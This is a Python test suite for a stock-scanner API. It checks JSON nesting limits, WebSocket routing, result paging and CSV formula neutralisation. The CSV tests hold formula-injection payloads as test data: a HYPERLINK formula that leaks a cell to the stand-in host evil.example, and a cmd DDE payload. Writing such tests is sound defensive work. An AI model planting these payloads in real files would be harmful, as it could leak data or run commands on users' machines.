"""Input and output hygiene of the API: deeply nested JSON answered before it is decoded, CSV
cells a spreadsheet would run as formulas neutralised (API export and ``manage.py scan``),
unrouted WebSocket paths closed cleanly, and large results answered a page at a time."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from pathlib import Path
from typing import Any

import pytest
from channels.testing import WebsocketCommunicator
from django.contrib.auth.models import User
from django.test import Client
from rest_framework.test import APIClient

from infra.parsers import nesting_depth
from live.consumers import CLOSE_NOT_FOUND
from scanner.csv_export import CSV_FIELDS, csv_cell
from scanner.models import Scan
from technic_project.asgi import application
from tests.api.support import assert_documented, client_for, finished_scan, ranked, streamed_text
from tests.support.accounts import run, user_with_token
from tests.support.processes import manage

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("redis_server")]

TOKEN_URL = "/api/auth/token/"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def post_json(client: Client, url: str, body: str, **extra: Any) -> Any:
    return client.post(url, body, content_type="application/json", **extra)


# --- Deep JSON -------------------------------------------------------------------------------


def test_deeply_nested_json_answers_400_json_too_deep_anonymously_with_no_traceback_logged(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO)
    response = post_json(Client(raise_request_exception=False), TOKEN_URL, "[" * 30_000)
    assert response.status_code == 400
    error = response.json()["error"]
    assert (error["code"], error["details"]) == ("JSON_TOO_DEEP", {"max_depth": 32})
    assert error["suggestions"]
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]


def test_deeply_nested_json_starts_no_scan(owner: tuple[User, str]) -> None:
    body = '{"symbols": ' + "[" * 5_000 + "]" * 5_000 + "}"
    response = post_json(Client(), "/scan/start", body, HTTP_AUTHORIZATION=f"Token {owner[1]}")
    assert (response.status_code, response.json()["error"]["code"]) == (400, "JSON_TOO_DEEP")
    assert not Scan.objects.exists()


def test_brackets_inside_strings_do_not_count_as_nesting() -> None:
    User.objects.create_user("alice", password="[" * 100 + '"{' * 50)
    body = json.dumps({"username": "alice", "password": "[" * 100 + '"{' * 50})
    response = post_json(Client(), TOKEN_URL, body)
    assert response.status_code == 200, response.content
    assert response.json()["token"]


def test_nesting_up_to_the_limit_is_decoded_as_usual(settings: Any) -> None:
    depth = settings.TECHNIC_MAX_JSON_DEPTH
    response = post_json(Client(), TOKEN_URL, "[" * depth + "]" * depth)
    assert response.json()["error"]["code"] == "VALIDATION_ERROR"  # a list is not credentials
    response = post_json(Client(), TOKEN_URL, "[" * depth + "]" * (depth - 1))
    assert response.json()["error"]["code"] == "MALFORMED_JSON"


@pytest.mark.parametrize(
    ("data", "depth"),
    [
        (b"1", 0),
        (b'"[[["', 0),
        (b'{"a": [1, {"b": []}]}', 4),
        (b'["\\"[", [[]]]', 3),
        (b'["unterminated [[[[', 1),
        (b"]]]][", 1),
    ],
)
def test_nesting_depth_counts_brackets_outside_strings(data: bytes, depth: int) -> None:
    assert nesting_depth(data) == depth


def test_nesting_depth_stays_linear_on_strings_full_of_escapes() -> None:
    started = time.monotonic()
    assert nesting_depth(b'"' + b'\\"' * 30_000) == 0  # one unterminated string
    assert nesting_depth(b'["' + b"\\\\" * 30_000) == 1
    assert nesting_depth(b'"\\"",' * 10_000 + b"[" * 100, stop_above=32) == 33
    assert time.monotonic() - started < 2


# --- Unrouted WebSocket paths ----------------------------------------------------------------


@pytest.mark.parametrize("path", ["/no/such/socket", "/scan/ws/not-a-uuid", "/scan/ws/"])
def test_an_unrouted_websocket_path_is_refused_with_4404(path: str) -> None:
    async def scenario() -> None:
        ws = WebsocketCommunicator(application, path, headers=[(b"origin", b"http://localhost")])
        assert await ws.connect(10) == (False, CLOSE_NOT_FOUND)
        await ws.disconnect()

    run(scenario)


# --- CSV cells -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (EVIL_NAME, "'" + EVIL_NAME),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Energy", "Energy"),
        ("", ""),
        ("-0.05", "-0.05"),
        ("+3", "+3"),
        (-0.05, -0.05),
        (-12, -12),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def evil_rows(demo_rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows = [dict(r) for r in demo_rows[:3]]
    rows[0].update(name=EVIL_NAME, sector="@SUM(1+1)", ret_1d=-0.0123)
    rows[1].update(name="-2+3+cmd|' /C calc'!A0", sector="+Energy")
    return rows


def assert_neutralised(text: str, rows: list[dict[str, Any]]) -> dict[str, dict[str, str]]:
    """The CSV's rows by symbol, once checked: the first two of ``rows`` had formulas for name
    and sector, the third a plain name."""
    table = list(csv.DictReader(io.StringIO(text)))
    by_symbol = {r["symbol"]: r for r in table}
    first, second = by_symbol[rows[0]["symbol"]], by_symbol[rows[1]["symbol"]]
    assert (first["name"], first["sector"]) == ("'" + EVIL_NAME, "'@SUM(1+1)")
    assert (second["name"], second["sector"]) == ("'-2+3+cmd|' /C calc'!A0", "'+Energy")
    for row in table:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only numbers may start like a formula
    assert by_symbol[rows[2]["symbol"]]["name"] == rows[2]["name"], "a plain name is written as it is"
    return by_symbol


def test_the_api_csv_export_neutralises_formulas_in_names_and_sectors(
    api: APIClient, owner: tuple[User, str], demo_rows: list[dict[str, Any]]
) -> None:
    rows = evil_rows(demo_rows)
    scan = finished_scan(owner[0], rows)
    response = api.get(f"/scan/results/{scan.id}?format=csv")
    assert response.status_code == 200 and response.streaming
    text = streamed_text(response)
    assert text.splitlines()[0] == ",".join(CSV_FIELDS)
    table = assert_neutralised(text, rows)
    assert float(table[rows[0]["symbol"]]["ret_1d"]) == -0.0123, "a negative number stays a number"
    assert_documented(response, "get", "/scan/results/{scan_id}", text)


def test_the_command_line_csv_neutralises_formulas_from_the_universe_file(market_dir: Path, tmp_path: Path) -> None:
    with (market_dir / "constituents.csv").open(newline="") as fh:
        universe = list(csv.DictReader(fh))
    for row in universe:
        if row["symbol"] == "AAPL":
            row.update(name=EVIL_NAME, sector="@SUM(1+1)")
        elif row["symbol"] == "MSFT":
            row.update(name="-2+3+cmd|' /C calc'!A0", sector="+Energy")
    evil = tmp_path / "universe.csv"
    with evil.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=["symbol", "name", "sector"], extrasaction="ignore")
        writer.writeheader()
        writer.writerows(universe)
    data = ["--provider", "parquet", "--data", str(market_dir / "prices.parquet"), "--universe-file", str(evil)]
    proc = manage(*data, "--symbols", "AAPL,MSFT,XOM", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = [{"symbol": "AAPL"}, {"symbol": "MSFT"}, {"symbol": "XOM", "name": "Exxon Mobil Corp."}]
    assert_neutralised(proc.stdout, rows)


# --- Paging of results -----------------------------------------------------------------------


def many_rows(demo_rows: list[dict[str, Any]], n: int) -> list[dict[str, Any]]:
    template = demo_rows[0]
    return [{**template, "symbol": f"S{i:04d}", "tech_rating": 90 - i * 0.01} for i in range(n)]


def test_results_up_to_the_page_size_come_whole_in_one_answer_as_old_clients_expect(
    api: APIClient, owner: tuple[User, str], demo_rows: list[dict[str, Any]]
) -> None:
    scan = finished_scan(owner[0], demo_rows)
    response = api.get(f"/scan/results/{scan.id}")
    body = response.json()
    assert body["results"] == ranked(demo_rows)
    assert (body["count"], body["next"], body["previous"]) == (len(demo_rows), None, None)
    assert_documented(response, "get", "/scan/results/{scan_id}")


def test_results_over_the_page_size_come_a_page_at_a_time_with_next_links(
    api: APIClient, owner: tuple[User, str], demo_rows: list[dict[str, Any]], settings: Any
) -> None:
    settings.TECHNIC_RESULTS_PAGE_SIZE = 40
    rows = many_rows(demo_rows, 100)
    scan = finished_scan(owner[0], rows)
    response = api.get(f"/scan/results/{scan.id}")
    first = response.json()
    assert (first["count"], len(first["results"]), first["previous"]) == (100, 40, None)
    assert first["next"] == f"http://testserver/scan/results/{scan.id}?limit=40&offset=40"
    assert_documented(response, "get", "/scan/results/{scan_id}")
    symbols, page = [r["symbol"] for r in first["results"]], first
    while page["next"]:
        page = api.get(page["next"]).json()
        assert page["skipped"] == first["skipped"] and page["scan"]["id"] == str(scan.id)
        symbols += [r["symbol"] for r in page["results"]]
    assert symbols == [r["symbol"] for r in rows]
    assert page["previous"] == f"http://testserver/scan/results/{scan.id}?limit=40&offset=40"
    csv_text = streamed_text(api.get(f"/scan/results/{scan.id}?format=csv"))
    assert len(csv_text.splitlines()) == 101, "the CSV export is every row"


def test_limit_and_offset_choose_a_page_and_a_limit_over_the_page_size_is_lowered(
    api: APIClient, owner: tuple[User, str], demo_rows: list[dict[str, Any]], settings: Any
) -> None:
    settings.TECHNIC_RESULTS_PAGE_SIZE = 30
    rows = many_rows(demo_rows, 50)
    scan = finished_scan(owner[0], rows)
    page = api.get(f"/scan/results/{scan.id}?limit=5&offset=10").json()
    assert [r["symbol"] for r in page["results"]] == [r["symbol"] for r in rows[10:15]]
    assert page["previous"] == f"http://testserver/scan/results/{scan.id}?limit=5&offset=5"
    assert len(api.get(f"/scan/results/{scan.id}?limit=1000").json()["results"]) == 30
    assert api.get(f"/scan/results/{scan.id}?offset=70").json()["results"] == []


@pytest.mark.parametrize(("query", "code"), [("limit=0", "INVALID_LIMIT"), ("offset=-1", "INVALID_OFFSET")])
def test_a_junk_limit_or_offset_answers_400(api: APIClient, owner: tuple[User, str], query: str, code: str) -> None:
    scan = finished_scan(owner[0], [])
    response = api.get(f"/scan/results/{scan.id}?{query}")
    assert (response.status_code, response.json()["error"]["code"]) == (400, code)
    assert_documented(response, "get", "/scan/results/{scan_id}")


def test_the_synchronous_start_answers_the_first_page_with_a_link_to_the_rest(
    owner: tuple[User, str], demo_rows: list[dict[str, Any]], settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from scanner.api import views

    settings.TECHNIC_RESULTS_PAGE_SIZE = 2
    done = finished_scan(owner[0], demo_rows)
    monkeypatch.setattr(views, "scan_create", lambda **kwargs: done)
    monkeypatch.setattr(views, "scan_wait", lambda scan, timeout: scan)
    body = client_for(owner).post("/scan/start", {"async_mode": False}, format="json").json()
    assert (len(body["results"]), body["count"]) == (2, len(demo_rows))
    assert body["next"] == f"http://testserver/scan/results/{done.id}?limit=2&offset=2"


def test_another_users_token_cannot_page_through_the_results(
    owner: tuple[User, str], demo_rows: list[dict[str, Any]]
) -> None:
    scan = finished_scan(owner[0], demo_rows)
    stranger = client_for(user_with_token("stranger"))
    assert stranger.get(f"/scan/results/{scan.id}?limit=1&offset=1").status_code == 404
